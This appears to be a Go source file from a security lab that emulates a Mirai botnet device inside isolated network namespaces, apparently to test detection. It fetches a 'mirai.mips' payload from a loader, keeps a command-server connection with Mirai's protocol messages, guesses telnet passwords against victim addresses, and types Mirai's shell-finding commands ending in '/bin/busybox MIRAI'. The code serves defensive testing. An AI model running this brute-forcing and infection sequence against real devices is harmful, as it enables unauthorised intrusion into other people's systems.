package live

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/netip"
	"strings"
	"sync"
	"time"

	"cordon/internal/pause"
	"cordon/lab/netns"
	"cordon/lab/synth/message"
)

// Bot is a device that Mirai has: it fetches its program, calls home and spreads.
// Each part is left out if its field is the zero value.
type Bot struct {
	// Loader is where the program is fetched first.
	Loader netip.AddrPort
	// C2 is called, kept alive, and called again a second after it was lost.
	C2 netip.AddrPort
	// ID is what the bot calls itself there.
	ID string
	// Alive is how often it says so; 0: AliveEvery.
	Alive time.Duration
	// Victims are where passwords are guessed by telnet, one after another.
	Victims []netip.AddrPort
	// Scan is the scanner, nil for none.
	Scan *Scan
}

// BotReport is what a bot did.
type BotReport struct {
	Fetched int       // bytes of the program
	Calls   int       // of the command server, that it answered
	Echoed  int       // keep-alives that it echoed
	Last    time.Time // of the last echo
	Orders  int       // bytes that came besides
	Guessed int       // logins tried
	Entered int       // victims entered
	Scan    Sent
}

// Run does all that until ctx ends, at most MaxDuration. That connections fail
// is no error: a firewall is expected.
func (b Bot) Run(ctx context.Context, h *netns.Host) (BotReport, error) {
	ctx, cancel := context.WithTimeout(ctx, MaxDuration)
	defer cancel()
	var targets []netip.Prefix
	for _, to := range append([]netip.AddrPort{b.Loader, b.C2}, b.Victims...) {
		if to.IsValid() {
			targets = append(targets, single(to.Addr()))
		}
	}
	if err := guard(h, targets...); err != nil {
		return BotReport{}, err
	}
	if b.Alive == 0 {
		b.Alive = AliveEvery
	}
	var report BotReport
	if b.Loader.IsValid() {
		report.Fetched = fetch(ctx, h, b.Loader)
	}
	var wait sync.WaitGroup
	var failed error
	if b.C2.IsValid() {
		wait.Go(func() { b.callHome(ctx, h, &report) })
	}
	wait.Go(func() { b.guess(ctx, h, &report) })
	if b.Scan != nil {
		wait.Go(func() { report.Scan, failed = b.Scan.Run(ctx, h) })
	}
	wait.Wait()
	return report, failed
}

// fetch asks a loader for the program as busybox's wget does and returns how
// many bytes came.
func fetch(ctx context.Context, h *netns.Host, from netip.AddrPort) int {
	c, err := h.DialContext(ctx, "tcp", from.String())
	if err != nil {
		return 0
	}
	defer closeWith(ctx, c)()
	if _, err := c.Write(message.HTTPGet(from.String(), "/bins/mirai.mips", "Wget")); err != nil {
		return 0
	}
	n, _ := io.Copy(io.Discard, c)
	return int(n)
}

// callHome keeps a connection to the command server.
func (b *Bot) callHome(ctx context.Context, h *netns.Host, report *BotReport) {
	for {
		_ = b.call(ctx, h, report)
		if !pause.For(ctx, time.Second) {
			return
		}
	}
}

// call is one connection to the command server.
func (b *Bot) call(ctx context.Context, h *netns.Host, report *BotReport) error {
	dialing, cancel := context.WithTimeout(ctx, lineTimeout)
	defer cancel()
	c, err := h.DialContext(dialing, "tcp", b.C2.String())
	if err != nil {
		return err
	}
	defer closeWith(ctx, c)()
	if _, err := c.Write(append(message.MiraiLogin(), message.MiraiID(b.ID)...)); err != nil {
		return err
	}
	report.Calls++
	in := make([]byte, 1024)
	for next := time.Now(); ; {
		if now := time.Now(); !now.Before(next) {
			if _, err := c.Write(message.MiraiAlive()); err != nil {
				return err
			}
			next = now.Add(b.Alive)
		}
		_ = c.SetReadDeadline(next)
		n, err := c.Read(in)
		for _, v := range in[:n] { // an echo is two zeros; orders hold more
			if v != 0 {
				report.Orders += n
				n = 0
				break
			}
		}
		if n >= 2 {
			report.Echoed += n / 2
			report.Last = time.Now()
		}
		var late net.Error
		if err != nil && !(errors.As(err, &late) && late.Timeout()) {
			return err
		}
	}
}

// guess tries logins at every victim and gives up on one where it is refused
// three times or enters.
func (b *Bot) guess(ctx context.Context, h *netns.Host, report *BotReport) {
	r := rand.New(rand.NewPCG(uint64(len(b.ID)), 2))
	for _, v := range b.Victims {
		for try, refused := 0, 0; try < len(Logins) && refused < 3 && ctx.Err() == nil; try++ {
			entered, err := logIn(ctx, h, v, Logins[try])
			if err != nil {
				refused++
				pause.For(ctx, time.Duration(50+r.IntN(100))*time.Millisecond)
				continue
			}
			report.Guessed++
			if entered {
				report.Entered++
				break
			}
		}
	}
}

// infect is what Mirai's loader types to find a shell (detection.md §A2).
var infect = []string{"enable", "system", "shell", "sh", "/bin/busybox MIRAI"}

// logIn tries one login. It is an error if the victim does not talk telnet.
func logIn(ctx context.Context, h *netns.Host, to netip.AddrPort, l Login) (entered bool, err error) {
	ctx, cancel := context.WithTimeout(ctx, lineTimeout)
	defer cancel()
	c, err := h.DialContext(ctx, "tcp", to.String())
	if err != nil {
		return false, err
	}
	defer closeWith(ctx, c)()
	r := bufio.NewReader(c)
	if _, err := until(r, "login: "); err != nil {
		return false, err
	}
	if _, err := fmt.Fprintf(c, "%s%s\r\n", message.TelnetRefuse(), l.User); err != nil {
		return false, err
	}
	if _, err := until(r, "Password: "); err != nil {
		return false, err
	}
	if _, err := io.WriteString(c, l.Password+"\r\n"); err != nil {
		return false, err
	}
	if found, err := until(r, "# ", "incorrect"); err != nil || found != "# " {
		return false, err
	}
	for _, line := range infect {
		if _, err := io.WriteString(c, line+"\r\n"); err != nil {
			return true, nil
		}
		if _, err := until(r, "# "); err != nil {
			return true, nil
		}
	}
	return true, nil
}

// until reads until one of some endings comes and returns which; at most 4,096
// bytes.
func until(r *bufio.Reader, endings ...string) (string, error) {
	var got strings.Builder
	for got.Len() < 4096 {
		b, err := r.ReadByte()
		if err != nil {
			return "", err
		}
		got.WriteByte(b)
		for _, e := range endings {
			if strings.HasSuffix(got.String(), e) {
				return e, nil
			}
		}
	}
	return "", errors.New("too long")
}
